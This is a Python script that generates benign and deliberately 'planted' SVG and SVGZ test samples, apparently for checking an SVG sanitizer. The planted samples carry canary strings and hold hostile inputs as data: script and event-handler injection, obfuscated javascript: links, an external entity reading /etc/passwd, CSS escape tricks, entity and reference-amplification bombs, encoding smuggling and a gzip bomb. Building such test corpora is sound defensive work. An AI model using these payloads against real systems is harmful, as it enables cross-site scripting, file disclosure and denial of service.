#!/usr/bin/env python3
"""Make the drawing samples: samples/{benign,planted}/svg.

Standard library only, same bytes on every run. Each planted sample holds one
construct that must not survive, with a canary of its own (C is replaced by
SEKISHO-CANARY-svg-NAME).
"""
import base64
import gzip
import io
import os
import struct
import sys
import zlib

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "samples")
NS = 'xmlns="http://www.w3.org/2000/svg"'
XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
SHAPE = '<rect id="shape" width="60" height="40" fill="#1a73e8"/>'


def save(kind, name, data):
    folder = os.path.join(ROOT, kind, "svg")
    os.makedirs(folder, exist_ok=True)
    if isinstance(data, str):
        data = data.encode()
    with open(os.path.join(folder, name), "wb") as f:
        f.write(data)


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(text=None):
    rows = b"".join(b"\0" + bytes((x * 16, y * 16, 128)[i] for x in range(8) for i in range(3)) for y in range(8))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 8, 8, 8, 2, 0, 0, 0)) +
            (chunk(b"tEXt", b"Comment\0" + text) if text else b"") +
            chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


def data_url(data, mime="image/png"):
    return "data:%s;base64,%s" % (mime, base64.b64encode(data).decode())


def svg(body, attrs="", prolog="", space=NS):
    return '%s<svg %s %s width="100" height="80" viewBox="0 0 100 80"%s>\n%s\n</svg>\n' % (
        prolog, space, XLINK, " " + attrs if attrs else "", body)


def gz(data, name=None, time=0, tail=b"", extra=b""):
    flags = (8 if name else 0) | (4 if extra else 0)
    body = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = body.compress(data) + body.flush()
    return (b"\x1f\x8b\x08" + bytes([flags]) + struct.pack("<I", time) + b"\x02\xff" +
            (struct.pack("<H", len(extra)) + extra if extra else b"") +
            (name + b"\0" if name else b"") + packed +
            struct.pack("<II", zlib.crc32(data), len(data) & 0xffffffff) + tail)


def benign():
    def b(name, data):
        save("benign", name, data)

    shapes = """<title>図形の見本</title>
<desc>SEKISHO-BENIGN-shapes</desc>
<defs>
<linearGradient id="空" x1="0%" y1="0%" x2="100%" y2="0%"><stop offset="0" stop-color="#fff"/><stop offset="100%" style="stop-color:rgb(26, 115, 232);stop-opacity:.5"/></linearGradient>
<radialGradient id="r" xlink:href="#空" cx="50%" cy="50%" r="50%"/>
<pattern id="p" width="4" height="4" patternUnits="userSpaceOnUse"><circle cx="2" cy="2" r="1"/></pattern>
<clipPath id="c"><rect x="0" y="0" width="50" height="50"/></clipPath>
<mask id="m" maskUnits="userSpaceOnUse"><rect width="100" height="80" fill="white"/></mask>
<marker id="arrow" markerWidth="6" markerHeight="6" refX="3" refY="3" orient="auto"><path d="M0,0 6,3 0,6z"/></marker>
<filter id="f" x="-10%" y="-10%" width="120%" height="120%"><feGaussianBlur in="SourceAlpha" stdDeviation="2" result="blur"/><feOffset dx="1" dy="1"/><feComponentTransfer><feFuncA type="linear" slope=".5"/></feComponentTransfer><feMerge><feMergeNode/><feMergeNode in="SourceGraphic"/></feMerge></filter>
<symbol id="s" viewBox="0 0 10 10"><path d="M5 0 10 10H0Z"/></symbol>
</defs>
<g transform="translate(5 5) scale(.9)" clip-path="url(#c)">
<rect x="1" y="2" width="20" height="10" rx="2" fill="url(#空)" stroke="currentColor" stroke-dasharray="2,1"/>
<circle cx="30" cy="10" r="8" fill="url('#r')"/>
<ellipse cx="50" cy="10" rx="9" ry="5" fill="url( #p ) none"/>
<line x1="0" y1="30" x2="90" y2="30" stroke="#000" marker-end="url(#arrow)"/>
<polyline points="0,40 10,50 20,40 30,50" fill="none" stroke="red"/>
<polygon points="40 40 50 50 60 40" mask="url(#m)" filter="url(#f)"/>
<path d="M10-20.5.5e1,3l-1.5.5h4V70a5 5 0 0110 10c1 1,2 2 3-3s1 1 2 2q1 1 2 2t3 3Z"/>
</g>
<use xlink:href="#s" x="60" y="50" width="10" height="10"/>
<text x="5" y="70" font-family="'MS Mincho', "Yu Mincho", serif" font-size="8">SEKISHO-BENIGN-text <tspan font-weight="bold" fill="#c00">外字\u3000１２</tspan> &lt;&amp;&gt;</text>
""".replace('"Yu Mincho"', "&quot;Yu Mincho&quot;")
    b("shapes.svg", svg(shapes))
    b("shapes.svgz", gz(svg(shapes).encode()))
    b("utf16.svg", b"\xff\xfe" + svg(shapes, prolog='<?xml version="1.0" encoding="UTF-16"?>').encode("utf-16-le"))
    b("cp932.svg", svg("<text>SEKISHO-BENIGN-cp932 庁舎案内図</text>" + SHAPE,
                       prolog='<?xml version="1.0" encoding="Shift_JIS"?>').encode("cp932"))
    b("latin1.svg", svg("<text>SEKISHO-BENIGN-latin caf\xe9</text>" + SHAPE,
                        prolog='<?xml version="1.0" encoding="ISO-8859-1"?>').encode("latin-1"))
    b("sheet.svg", svg("""<style type="text/css"><![CDATA[
.st0, g > .st1 { fill : #ff0000 ; stroke:none }
#shape{opacity:.5!important} /* note */
text.big tspan{font:italic bold 12px/1.2 'Yu Gothic',sans-serif}
*{stroke-linejoin:round}
]]></style><g><rect class="st0" width="10" height="10"/><path class="st1 other" d="M0 0h9v9z"/></g>""" + SHAPE +
        '<text class="big" style="text-anchor:middle; fill:rgba(0,0,0,.8)"><tspan>SEKISHO-BENIGN-sheet</tspan></text>'))
    b("prefixed.svg", '<v:svg xmlns:v="http://www.w3.org/2000/svg" width="9" height="9">'
                      '<v:text>SEKISHO-BENIGN-prefix</v:text></v:svg>')
    b("doctype.svg", svg(SHAPE, prolog='<?xml version="1.0" standalone="no"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
                         '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'))
    b("illustrator.svg", """<?xml version="1.0" encoding="utf-8"?>
<!-- Generator: Adobe Illustrator -->
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.0//EN" "http://www.w3.org/TR/2001/REC-SVG-20010904/DTD/svg10.dtd" [
	<!ENTITY ns_extend "http://ns.adobe.com/Extensibility/1.0/">
	<!ENTITY ns_ai "http://ns.adobe.com/AdobeIllustrator/10.0/">
	<!ENTITY ns_svg "http://www.w3.org/2000/svg">
	<!ENTITY ns_xlink "http://www.w3.org/1999/xlink">
	<!ENTITY st0 "fill:none;stroke:#C00;">
]>
<svg xmlns:x="&ns_extend;" xmlns:i="&ns_ai;" i:viewOrigin="0 80" xmlns="&ns_svg;" xmlns:xlink="&ns_xlink;" width="100" height="80">
<switch><foreignObject requiredExtensions="&ns_ai;" x="0" y="0" width="1" height="1"><i:pgfRef xlink:href="#adobe_illustrator_pgf"/></foreignObject>
<g i:extraneous="self"><path i:knockout="Off" style="&st0;" d="M0 0L9 9"/><text>SEKISHO-BENIGN-ai</text></g></switch>
<i:pgf id="adobe_illustrator_pgf"><![CDATA[eJzEvemSJLl1]]></i:pgf></svg>
""")
    b("picture.svg", svg('<image width="40" height="40" xlink:href="%s"/>' % data_url(png()) +
                         '<image x="50" width="40" height="40" href="%s"/>' % data_url(png(), "image/jpg")))
    b("bare-xlink.svg", '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><a xlink:href="https://www.example.jp/">'
                        '<text>SEKISHO-BENIGN-bare-xlink</text></a><use xlink:href="#shape" x="9"/>%s</svg>' % SHAPE)
    b("links.svg", svg('<a xlink:href="https://www.example.jp/page?a=1&amp;b=2" target="_blank">%s</a>'
                       '<text><a href="#shape">SEKISHO-BENIGN-link</a></text>' % SHAPE))
    b("no-namespace.svg", '<svg width="10" height="10"><rect width="5" height="5"/><text>SEKISHO-BENIGN-bare</text></svg>')
    b("languages.svg", svg('<switch><text systemLanguage="de">Hallo</text><text systemLanguage="ja">SEKISHO-BENIGN-ja</text>'
                           '<text>other</text></switch>' + SHAPE))
    b("css-transform.svg", svg('<g style="transform: rotate(45deg) translate( 1px , 2px ); transform-origin: center 50%;'
                               ' mix-blend-mode:multiply">' + SHAPE + "</g>"))


def planted():
    def p(name, body, **kw):
        c = "SEKISHO-CANARY-svg-" + name
        raw = kw.pop("raw", False)
        text = (body if raw else svg(body + "\n" + SHAPE, **kw)).replace("CANARY", c)
        save("planted", name + ".svg", text.encode(kw.get("encoding", "utf-8")))

    p("script", "<script>alert('CANARY')</script>")
    p("script-prefixed", '<x:script xmlns:x="http://www.w3.org/2000/svg">alert("CANARY")</x:script>')
    p("script-html", '<h:script xmlns:h="http://www.w3.org/1999/xhtml" src="https://example.com/CANARY.js"/>')
    p("script-href", '<script xlink:href="https://example.com/CANARY.js"/>')
    p("script-case", '<ScRiPt>CANARY</ScRiPt>')
    p("event", '<rect onclick="alert(\'CANARY\')" width="9" height="9"/>')
    p("event-root", "", attrs='onload="alert(\'CANARY\')"')
    p("event-space", '<g xmlns:e="urn:e" e:onclick="CANARY"/>')
    p("handler", '<handler type="application/ecmascript" xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="click">CANARY</handler>')
    p("foreign", '<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml" onload="CANARY()">'
                 '<script>CANARY</script></body></foreignObject>')
    p("foreign-in-text", '<text><foreignObject>CANARY</foreignObject>stays</text>')
    p("iframe", '<iframe xmlns="http://www.w3.org/1999/xhtml" src="https://example.com/CANARY"/>')
    p("animate-href", '<a xlink:href="#shape"><animate attributeName="href" values="javascript:alert(\'CANARY\')"/>'
                      '<set attributeName="xlink:href" to="javascript:CANARY"/><rect width="9" height="9"/></a>')
    p("animate-event", '<set attributeName="onmouseover" to="CANARY"/><animate onbegin="CANARY" attributeName="x" dur="1s"/>')
    p("link-script", '<a href="javascript:alert(\'CANARY\')">%s</a>' % "<text>shown</text>")
    p("link-script-dots", '<a xlink:href=" java&#x9;script&#x3A;CANARY">%s</a>' % "<text>shown</text>")
    p("link-data", '<a xlink:href="data:text/html;base64,CANARY"><text>shown</text></a>')
    p("link-unc", '<a xlink:href="\\\\server\\CANARY"><text>shown</text></a>')
    p("use-external", '<use xlink:href="https://example.com/CANARY.svg#a"/>')
    p("use-data", '<use href="data:image/svg+xml;base64,CANARY#a"/>')
    p("use-both", '<use xlink:href="#shape" href="//example.com/CANARY#x"/>')
    p("image-external", '<image xlink:href="https://example.com/CANARY.png" width="9" height="9"/>')
    p("image-file", '<image href="file:///etc/CANARY" width="9" height="9"/>')
    inner = svg("<script>SEKISHO-CANARY-svg-image-svg</script>")
    p("image-svg", '<image href="%s" width="9" height="9"/>' % data_url(inner.encode(), "image/svg+xml"))
    p("image-svg-plain", '<image href="data:image/svg+xml,%3Csvg onload=%22CANARY%22%3E" width="9" height="9"/>')
    p("image-text", '<image href="%s" width="9" height="9"/>' % data_url(png(b"SEKISHO-CANARY-svg-image-text")))
    p("image-broken", '<image href="%s" width="9" height="9"/>' % data_url(png()[:50] + b"SEKISHO-CANARY-svg-image-broken"))
    p("fe-image", '<filter id="f"><feImage xlink:href="https://example.com/CANARY" result="i"/><feBlend in="SourceGraphic" in2="i"/></filter>')
    p("paint-url", '<rect fill="url(https://example.com/CANARY.svg#a) red" width="9" height="9"/>')
    p("paint-file", '<rect style="filter: url( \'file:///CANARY#a\' )" width="9" height="9"/>')
    p("css-import", "<style>@import url(https://example.com/CANARY.css); @import '//example.com/CANARY';rect{fill:red}</style>")
    p("css-font", "<style>@font-face{font-family:x;src:url(data:font/woff;base64,CANARY)}rect{fill:red}</style>")
    p("css-url", "<style>rect{fill:red;background:url(//example.com/CANARY)}</style>")
    p("css-escape", "<style>rect{fill:\\75rl(//example.com/CANARY)} \\40import 'CANARY';</style>")
    p("css-escape-attr", '<rect style="fill:\\75\\72\\6c(//example.com/CANARY);stroke:red" width="9" height="9"/>')
    p("css-comment", '<rect style="fill:u/**/rl(//example.com/CANARY);background:url(/**///example.com/CANARY)" width="9" height="9"/>')
    p("css-expression", '<rect style="width:expression(alert(CANARY));-moz-binding:url(CANARY);behavior:url(CANARY)" width="9" height="9"/>')
    p("css-attribute", '<style>rect[id^="a"]{fill:red} rect:hover{cursor:url(CANARY),auto} a{color:CANARY()}</style>')
    p("css-breakout", "<style>rect{fill:red}</style><style><![CDATA[</style><script>CANARY</script>]]></style>")
    p("css-html", '<style><h:img xmlns:h="http://www.w3.org/1999/xhtml" src="x" onerror="CANARY"/></style>')
    p("css-string", '<style>text{font-family:"</style><script>CANARY</script>"}</style>'.replace("</style><script>", "&lt;/style>&lt;script>").replace("</script>\"", "&lt;/script>\""))
    p("base", "", attrs='xml:base="https://example.com/CANARY/"')
    p("stylesheet", "", prolog='<?xml version="1.0"?><?xml-stylesheet href="https://example.com/CANARY.css" type="text/css"?>')
    p("instruction", "<?php echo 'CANARY'; ?>")
    p("comment", "<!-- CANARY -->")
    p("comment-conditional", "<!--[if IE]><script>CANARY</script><![endif]-->")
    p("metadata", '<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description>CANARY</rdf:Description></rdf:RDF></metadata>')
    p("inkscape", '<g xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" inkscape:label="CANARY"/>'
                  '<s:namedview xmlns:s="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" s:docbase="C:\\CANARY"/>')
    p("data-attribute", '<g data-secret="CANARY" aria-label="CANARY"/>')
    p("stray-text", "CANARY<g>CANARY</g>")
    p("unknown", "<blink>CANARY</blink><path><script>CANARY</script></path>")
    p("font", '<font><font-face font-family="CANARY"/><glyph unicode="a" d="M0 0"/></font>')
    p("cursor", '<cursor xlink:href="https://example.com/CANARY"/><rect cursor="url(CANARY)" width="9" height="9"/>')
    p("cdata-name", '<g id="&lt;script&gt;CANARY" class="a &lt;b&gt;CANARY"/>')
    p("attribute-markup", '<rect fill="&quot;&gt;&lt;script&gt;CANARY" width="9" height="9"/>')
    p("entity-external", "<text>&x;</text>", prolog='<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd?CANARY">]>')
    p("entity-script", "<text>&x;</text>", prolog='<!DOCTYPE svg [<!ENTITY x "<script>CANARY</script>">]>')
    p("entity-name", "<g style='&x;'/>", prolog='<!DOCTYPE svg [<!ENTITY x "fill:url(//example.com/CANARY)">]>')
    p("doctype-comment", "", prolog='<!DOCTYPE svg [<!-- CANARY --><!ATTLIST svg onload CDATA "CANARY"><!ELEMENT svg ANY>]>')
    p("cycle", '<g id="a"><text>CANARYkept</text><use href="#b"/></g><g id="b"><use xlink:href="#a"/></g>'
               '<pattern id="p"><rect fill="url(#p)" width="1" height="1"/></pattern><rect fill="url(#p)" width="9" height="9"/>'
               '<style>.k{mask:url(#k)}</style><mask id="k"><rect class="k" width="1" height="1"/></mask>')
    p("cycle-inherited", '<g fill="url(#p)" style="marker-mid:url(#n)"><pattern id="p" width="9" height="9"><rect width="1" height="1"/>'
      '</pattern><marker id="n"><path d="M0 0 1 1 2 2"/></marker></g><desc>kept</desc>')
    p("cycle-up", '<use href="#in"/><g id="out"><g id="in"><use href="#out"/><rect width="1" height="1"/></g></g>')
    p("duplicate-id", '<g id="same"/><text id="same">x</text>')
    p("language", '<g systemLanguage="xx">CANARY<text>CANARY</text></g>')
    p("extension", '<g requiredExtensions="http://example.com/CANARY"><text>CANARY</text></g>')
    p("print-sheet", '<style media="print">rect{fill:red} #CANARY{fill:red}</style><style type="text/x">.CANARY{fill:red}</style>')
    p("fe-cost", '<filter id="f"><feTurbulence numOctaves="9999999" baseFrequency=".5" seed="CANARY"/><feMorphology radius="99999999"/></filter>')
    p("number-overflow", '<rect x="1e999" y="99999999999999999999" width="CANARY" height="9"/>')
    p("path-junk", '<path d="M0 0L9 9CANARY"/><polygon points="0 0 9 9 CANARY"/>')
    # Held.
    p("entity-parameter", "", prolog='<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://example.com/CANARY"> %x;]>')
    p("entity-undefined", "<text>&CANARY;</text>")
    p("entity-bomb", "<text>&e;</text>", prolog='<!DOCTYPE svg [<!ENTITY a "CANARYaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY e "&b;&b;&b;">]>')
    uses = "".join('<g id="u%d">%s</g>' % (i, ('<use href="#u%d"/>' % (i + 1)) * 10) for i in range(9))
    p("bomb", uses + '<g id="u9"><rect width="1" height="1"/></g><desc>CANARY</desc>')
    p("deep", "<g>" * 300 + "CANARY" + "</g>" * 300)
    p("chain", "".join('<g id="c%d"><use href="#c%d"/></g>' % (i, i + 1) for i in range(600)) + "<desc>CANARY</desc>")
    markers = '<marker id="m">%s</marker><path marker-mid="url(#m)" d="M0 0%s"/>' % ("<path d='M0 0'/>" * 500, " 1 1" * 5000)
    p("marker-path-bomb", '<marker id="m"><path d="M0 0%s"/></marker><polyline marker-mid="url(#m)" points="%s"/><desc>CANARY</desc>' % (
        "h1" * 4000, "1 1 " * 8000))
    p("marker-bomb", markers + "<desc>CANARY</desc>")
    fills = "".join('<pattern id="q%d" width="9" height="9"><g fill="url(#q%d)">%s</g></pattern>' % (
        i, i + 1, '<rect width="1" height="1"/>' * 30) for i in range(8))
    p("fill-bomb", fills + '<g fill="url(#q0)"><rect width="9" height="9"/></g><desc>CANARY</desc>')
    p("marker-inherited", '<marker id="m">%s</marker><g marker-mid="url(#m)"><path d="M0 0%s"/></g>' % (
        "<path d='M0 0'/>" * 500, " 1 1" * 5000) + "<desc>CANARY</desc>")
    p("html", "<!DOCTYPE html><html><body><svg><script>CANARY</script></svg></body></html>", raw=True)
    p("html-doctype", "", prolog="<!DOCTYPE html>")
    p("wrong-root", '<svg xmlns="http://www.w3.org/1999/xhtml"><script>CANARY</script></svg>', raw=True)
    p("undeclared-prefix", '<g y:a="CANARY"/>')
    p("truncated", '<svg %s><rect width="9" height="9"/><text>CANARY' % NS, raw=True)
    save("planted", "utf16-script.svg", b"\xfe\xff" + svg("<script>SEKISHO-CANARY-svg-utf16-script</script>" + SHAPE).encode("utf-16-be"))
    save("planted", "utf7.svg", svg("<text>+ADw-script+AD4-SEKISHO+-CANARY-svg-utf7</text>" + SHAPE,
                                    prolog='<?xml version="1.0" encoding="UTF-7"?>'))
    save("planted", "mixed-encoding.svg", b"\xef\xbb\xbf" + svg("<text>\u3042</text>", prolog='<?xml version="1.0" encoding="Shift_JIS"?>').encode("cp932"))
    save("planted", "nul.svg", svg("<text>a\0SEKISHO-CANARY-svg-nul</text>"))
    c = b"SEKISHO-CANARY-svg-gz-"
    plain = svg(SHAPE).encode()
    save("planted", "gz-name.svgz", gz(plain, name=c + b"name.svg", time=1700000000, extra=c + b"extra"))
    save("planted", "gz-tail.svgz", gz(plain, tail=c + b"tail"))
    save("planted", "gz-second.svgz", gz(plain, tail=gz(b"<html>" + c + b"second")))
    save("planted", "gz-script.svgz", gz(svg("<script>SEKISHO-CANARY-svg-gz-script</script>" + SHAPE).encode()))
    save("planted", "gz-crc.svgz", gz(plain)[:-8] + b"\1\2\3\4" + struct.pack("<I", len(plain)))
    save("planted", "gz-cut.svgz", gz(plain)[:-30])
    save("planted", "gz-bomb.svgz", gz(svg("<text>" + " " * 30000000 + "</text>").encode()))


if __name__ == "__main__":
    if len(sys.argv) > 1:
        ROOT = sys.argv[1]
    benign()
    planted()
